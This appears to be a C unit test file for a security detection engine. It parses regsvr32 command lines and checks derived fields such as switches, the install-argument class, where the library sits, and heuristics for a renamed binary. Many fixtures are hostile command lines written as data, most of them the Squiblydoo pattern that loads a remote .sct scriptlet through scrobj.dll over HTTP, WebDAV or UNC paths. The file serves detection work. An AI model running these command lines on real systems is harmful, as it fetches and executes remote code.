#include "tests/unit/derive/derived.h"

#define SYSTEM32 "C:\\Windows\\System32\\regsvr32.exe"

struct line_case {
	const char *name, *line, *want;
	const char *image;            /* NULL: SYSTEM32 */
	const char *folder, *folder2; /* CurrentDirectory; NULL: the event has none */
};

/* clang-format off */
static struct line_case cases[] = {
	{ "a remote scriptlet, switch by switch",
	  "regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll",
	  "command_line=regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll\n"
	  "argument=/s|/n|/u|/i:http://a.example/x.sct|scrobj.dll\nargument_count=5\n"
	  "program=regsvr32.exe\nrenamed=false\nmoved=false\nimage_place=system\n"
	  "regsvr32.switch=s|n|u|i\nregsvr32.install=http://a.example/x.sct\n"
	  "regsvr32.install_class=url\nregsvr32.install_place=-\n"
	  "regsvr32.library=scrobj.dll\nregsvr32.library_name=scrobj\nregsvr32.library_extension=dll\n"
	  "regsvr32.library_place=bare_system\nregsvr32.lawful=true\nregsvr32.scrobj=true\n"
	  "trick=-" },
	{ "a dash is as good as a slash, and only the first letter counts",
	  "regsvr32 -silent -Unregister -install:HTTPS://a.example/x scrobj",
	  "regsvr32.switch=s|u|i\nregsvr32.install=https://a.example/x\nregsvr32.install_class=url\n"
	  "regsvr32.library_name=scrobj\nregsvr32.library_extension=none\nregsvr32.scrobj=true" },
	{ "switches in one token are an attempt that is seen",
	  "regsvr32 /s/u/i:http://a.example/x scrobj.dll",
	  "regsvr32.switch=s|u|i\nregsvr32.install_class=url" },
	{ "so are letters behind one dash, when a value follows",
	  "regsvr32 -usi:http://a.example/x scrobj.dll",
	  "regsvr32.switch=u|i\nregsvr32.install=http://a.example/x\nregsvr32.install_class=url\nregsvr32.library_name=scrobj" },
	{ "a word with a colon is none",
	  "regsvr32 /unit:http://a.example/x a.dll", "regsvr32.switch=u\nregsvr32.install_class=none" },
	{ "/su is one switch", "regsvr32 /su c:\\a.dll", "regsvr32.switch=s\nregsvr32.install_class=none" },
	{ "order is free and several libraries are taken",
	  "regsvr32 \"C:\\Program Files\\V\\v.dll\" /u scrobj.dll /i:\\\\h\\s\\x.sct /s",
	  "regsvr32.library_name=v|scrobj\nregsvr32.library_place=program_files|bare_system\n"
	  "regsvr32.switch=u|i|s\nregsvr32.install_class=unc\nregsvr32.lawful=true" },
	{ "one library in the wrong place is enough",
	  "regsvr32 /s \"C:\\Program Files\\V\\v.dll\" C:\\Users\\Public\\a.dll",
	  "regsvr32.lawful=false\nregsvr32.library_place=program_files|user_writable" },
	{ "WebDAV", "regsvr32 /i:\\\\h@SSL\\DavWWWRoot\\x.sct scrobj.dll", "regsvr32.install_class=webdav" },
	{ "WebDAV by a port", "regsvr32 /i:\\\\h@8080\\d\\x.sct scrobj.dll", "regsvr32.install_class=webdav" },
	{ "a share of this machine",
	  "regsvr32 /i:\\\\localhost\\c$\\users\\public\\x.sct scrobj.dll", "regsvr32.install_class=loopback" },
	{ "a local path and its place",
	  "regsvr32 /s /i:C:\\Users\\Public\\x.sct scrobj.dll",
	  "regsvr32.install_class=path\nregsvr32.install_place=user_writable" },
	{ "a relative path", "regsvr32 /i:..\\x.sct scrobj.dll", "regsvr32.install_class=path" },
	{ "a bare file name", "regsvr32 /i:x.wsc scrobj.dll", "regsvr32.install_class=path" },
	{ "a moniker", "regsvr32 /i:script:http://h/x scrobj.dll", "regsvr32.install_class=url" },
	{ "an order with a URL is both",
	  "regsvr32 /i:shellcode,https://h/x a.dll", "regsvr32.install_class=url|payload" },
	{ "an order with a file", "regsvr32 /i:shellcode,c:\\x.bin a.dll", "regsvr32.install_class=payload" },
	{ "a secret", "regsvr32 /n /i:abcd* a.dll", "regsvr32.install_class=payload" },
	{ "what installers say", "regsvr32 /n /i:U shell32.dll", "regsvr32.install_class=text" },
	{ "what installers say with a slash",
	  "regsvr32 /s /n /i:/UserInstall C:\\Windows\\system32\\themeui.dll",
	  "regsvr32.install_class=text\nregsvr32.install=/userinstall\nregsvr32.lawful=true" },
	{ "what installers say with blanks and an equal sign",
	  "regsvr32 /i:\"Name=A CAM 2.0\" \"C:\\Program Files\\A\\a.dll\"", "regsvr32.install_class=text" },
	{ "a version is no file name", "regsvr32 /i:2.1 a.dll", "regsvr32.install_class=text" },
	{ "/i without a value", "regsvr32 /i c:\\tools\\a.dll",
	  "regsvr32.install_class=empty\nregsvr32.install=-\nregsvr32.library_place=root\nregsvr32.lawful=false" },
	{ "no arguments", "\"" SYSTEM32 "\"",
	  "argument_count=0\nargument=-\nregsvr32.library=-\nregsvr32.lawful=false\nregsvr32.scrobj=false" },
	{ "blanks are no arguments", "regsvr32.exe    ", "argument_count=0" },
	{ "an empty argument is none", "regsvr32 \"\" a.dll", "argument_count=1\nregsvr32.library=a.dll" },
	{ "an empty line says nothing", "", "argument_count=-\nregsvr32.switch=-\nprogram=regsvr32.exe" },
	{ "no argv[0], as BITS starts it",
	  "/u /s /i:https://h/c.sct scrobj.dll",
	  "argument_count=4\nregsvr32.switch=u|s|i\nregsvr32.install_class=url\ntrick=no_argv0" },
	{ "no argv[0], as the 64-bit one starts its twin", " /s C:\\Users\\Public\\x86.dll",
	  "regsvr32.library_place=user_writable\nargument_count=2" },
	{ "a blank before the colon's value", "regsvr32 /i: http://h/x scrobj.dll",
	  "regsvr32.install_class=empty\nregsvr32.library_place=url|bare_system" },
	{ "a share with forward slashes is a library", "regsvr32 /s //h/s/a.dll",
	  "regsvr32.switch=s\nregsvr32.library_place=remote" },
	{ "a path with a leading slash is a library", "regsvr32 /s /programdata/a.dll",
	  "regsvr32.switch=s\nregsvr32.library_name=a" },
	{ "help", "regsvr32 /?", "regsvr32.switch=?\nregsvr32.library=-" },
	{ "no extension", "regsvr32 -s payload", "regsvr32.library_extension=none\nregsvr32.library_place=bare" },
	{ "another extension", "regsvr32 /s c:\\programdata\\1.DAT", "regsvr32.library_extension=dat" },
	{ "a stream", "regsvr32 /s c:\\users\\public\\a.txt:b.dll", "regsvr32.library_place=stream" },
	{ "another drive", "regsvr32 /s E:\\a.ocx", "regsvr32.library_place=other_drive\nregsvr32.library_name=a.ocx" },
	{ "scrobj by any path is scrobj", "regsvr32 /i:x.sct C:/Windows\\Tasks/../System32\\\\SCROBJ.DLL",
	  "regsvr32.scrobj=true\nregsvr32.library_name=scrobj" },
	{ "scrobj by its short name is scrobj", "regsvr32 /i:x.sct SCROBJ~1.DLL",
	  "regsvr32.scrobj=true\nregsvr32.library_name=scrobj" },
	{ "something like scrobj is not", "regsvr32 /s myscrobj.dll", "regsvr32.scrobj=false" },
	{ "renamed, and nobody says so: the shape is left", "z.exe /s /u /i:http://h/x s.dll",
	  "program=z.exe\nregsvr32.shape=true\nregsvr32.switch=-\nmoved=false", "C:\\Users\\Public\\z.exe" },
	{ "the shape by words", "z.exe -silent -unreg -install:http://h/x s.dll",
	  "regsvr32.shape=true", "C:\\z.exe" },
	{ "the shape by scrobj", "z.exe /i:x.sct scrobj.dll", "regsvr32.shape=true", "C:\\z.exe" },
	{ "a setup with a URL has not the shape", "setup.exe /silent /install:http://h/x",
	  "regsvr32.shape=false", "C:\\setup.exe" },
	{ "an input file has not the shape", "conv.exe -i:in.png -o:out.png",
	  "regsvr32.shape=false", "C:\\conv.exe" },
	{ "a browser has no shape at all", "chrome.exe /s /u /i:http://h/x scrobj.dll",
	  "regsvr32.shape=-", "C:\\Program Files\\Google\\chrome.exe" },
	{ "what calls itself a browser has one", "chrome.exe /s /u /i:http://h/x scrobj.dll",
	  "regsvr32.shape=true", "C:\\chrome.exe" },
	{ "the shape by a scriptlet of this machine", "x.exe /u /s /i:C:\\ProgramData\\x.SCT .\\jabber.dll",
	  "regsvr32.shape=true", "C:\\Tools\\x.exe" },
	{ "the shape by a component and two letters", "x.exe /n /i:a.wsc vcrt",
	  "regsvr32.shape=true", "C:\\Tools\\x.exe" },
	{ "a component alone has not the shape", "conv.exe -i:a.wsc out", "regsvr32.shape=false", "C:\\conv.exe" },
	{ "the weak shape with a dressed library", "x.exe /s /u C:/Users/Public/b.jpg",
	  "regsvr32.weak_shape=true", "C:\\Tools\\x.exe" },
	{ "one letter and a file are anybody's", "x.exe -s C:\\Users\\bob\\b.jpg",
	  "regsvr32.weak_shape=false", "C:\\Tools\\x.exe" },
	{ "and so is a folder", "x.exe -s -u C:\\Users\\bob",
	  "regsvr32.weak_shape=false", "C:\\Tools\\x.exe" },
	{ "or a file elsewhere", "x.exe /s /u C:\\Users\\Public\\b.jpg d:\\x\\b.jpg",
	  "regsvr32.weak_shape=false", "C:\\Tools\\x.exe" },
	{ "Program Files of another drive may be an image's", "regsvr32 /s \"E:\\Program Files\\V\\v.dll\"",
	  "regsvr32.library_place=other_program_files\nregsvr32.lawful=false" },
	{ "a bare name out of an image", "regsvr32.exe 102755.dll",
	  "regsvr32.library=e:\\102755.dll\nregsvr32.library_place=other_drive\nregsvr32.lawful=false",
	  NULL, "E:\\" },
	{ "a bare name out of a download", "regsvr32 /s a.dll",
	  "regsvr32.library=c:\\users\\bob\\downloads\\a.dll\nregsvr32.library_place=user_writable\n"
	  "regsvr32.library_name=a", NULL, "C:\\Users\\bob\\Downloads\\" },
	{ "a bare name on a share", "regsvr32 a.dll",
	  "regsvr32.library=\\\\198.51.100.7\\s\\a.dll\nregsvr32.library_place=remote",
	  NULL, "\\\\198.51.100.7\\s\\" },
	{ "up from a folder", "regsvr32 -s ..\\Celod.dll",
	  "regsvr32.library=c:\\users\\bob\\celod.dll\nregsvr32.library_place=user_writable",
	  NULL, "C:\\Users\\bob\\Documents\\" },
	{ "down from a folder", "regsvr32 /s sub/a.dll", "regsvr32.library=c:\\users\\public\\sub\\a.dll",
	  NULL, "C:\\Users\\Public" },
	{ "out of System32", "regsvr32 /s ..\\..\\Users\\Public\\a.dll",
	  "regsvr32.library_place=user_writable", NULL, "C:\\Windows\\System32\\" },
	{ "a path within Program Files is lawful there", "regsvr32 /s .\\a.dll",
	  "regsvr32.library_place=program_files\nregsvr32.lawful=true", NULL, "C:\\Program Files\\V\\" },
	{ "a bare name is not: PATH is searched, too", "regsvr32 /s a.dll",
	  "regsvr32.library=a.dll\nregsvr32.library_place=bare\nregsvr32.lawful=false",
	  NULL, "C:\\Program Files\\V\\" },
	{ "a bare name in System32 says nothing", "regsvr32 /s a.dll", "regsvr32.library_place=bare",
	  NULL, "C:\\Windows\\System32\\" },
	{ "a library of Windows is found before the folder", "regsvr32 /s scrrun.dll",
	  "regsvr32.library=scrrun.dll\nregsvr32.library_place=bare_system\nregsvr32.lawful=true",
	  NULL, "C:\\Users\\bob\\Downloads\\" },
	{ "what is typed where a prompt begins", "regsvr32 vendor.ocx", "regsvr32.library_place=bare",
	  NULL, "C:\\Users\\bob\\" },
	{ "what is not typed there", "regsvr32 /s a.dll", "regsvr32.library_place=user_writable",
	  NULL, "C:\\Users\\bob\\" },
	{ "a word is no library", "regsvr32 help", "regsvr32.library=help\nregsvr32.library_place=bare",
	  NULL, "C:\\Users\\bob\\Desktop\\" },
	{ "the root of the current drive", "regsvr32 /s \\a.dll",
	  "regsvr32.library=e:\\a.dll\nregsvr32.library_place=other_drive", NULL, "E:\\x\\" },
	{ "the folder of the same drive", "regsvr32 /s C:Public\\a.dll",
	  "regsvr32.library=c:\\users\\public\\a.dll\nregsvr32.library_place=user_writable",
	  NULL, "C:\\Users\\" },
	{ "the folder of another drive is not known", "regsvr32 /s E:a.dll", "regsvr32.library=e:a.dll",
	  NULL, "C:\\Users\\" },
	{ "enough steps up, from nowhere", "regsvr32 /s ..\\..\\Users\\Public\\a.dll",
	  "regsvr32.library=c:\\users\\public\\a.dll\nregsvr32.library_place=user_writable", NULL, "-" },
	{ "a profile below the root, from nowhere", "regsvr32 /s ProgramData\\x\\a.dll",
	  "regsvr32.library=c:\\programdata\\x\\a.dll\nregsvr32.library_place=user_writable", NULL, "-" },
	{ "steps up to a folder of administrators say nothing", "regsvr32 /s ..\\..\\Windows\\System32\\a.dll",
	  "regsvr32.library=..\\..\\windows\\system32\\a.dll\nregsvr32.library_place=relative", NULL, "-" },
	{ "a folder that is none", "regsvr32 /s .\\a.dll", "regsvr32.library_place=relative", NULL, "-" },
	{ "a full path needs no folder", "regsvr32 /s C:\\Tools\\a.dll", "regsvr32.library_place=root",
	  NULL, "C:\\Users\\Public\\" },
	{ "Program Files without its quotes", "regsvr32 /s C:\\Program Files (x86)\\V\\a.dll",
	  "regsvr32.library=c:\\program|files|(x86)\\v\\a.dll\nregsvr32.library_place=root|bare|relative",
	  NULL, "C:\\Users\\bob\\" },
	{ "of two folders either may be it", "regsvr32 /s a.dll",
	  "regsvr32.library=e:\\a.dll\nregsvr32.library_place=other_drive", NULL, "C:\\Windows\\", "E:\\" },
};
/* clang-format on */

static void check_line(void **state)
{
	const struct line_case *tc = *state;
	struct derived d;

	derived_init(&d);
	derived_put(&d, SQ_F_IMAGE, tc->image ? tc->image : SYSTEM32);
	derived_put(&d, SQ_F_COMMAND_LINE, tc->line);
	derived_put(&d, SQ_F_CURRENT_DIRECTORY, tc->folder);
	derived_put(&d, SQ_F_CURRENT_DIRECTORY, tc->folder2);
	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
	assert_string_equal(derived_wrong(&d, tc->want), "");
	derived_fini(&d);
}

int main(void)
{
	return RUN_TABLE("derive/regsvr32", cases, check_line);
}
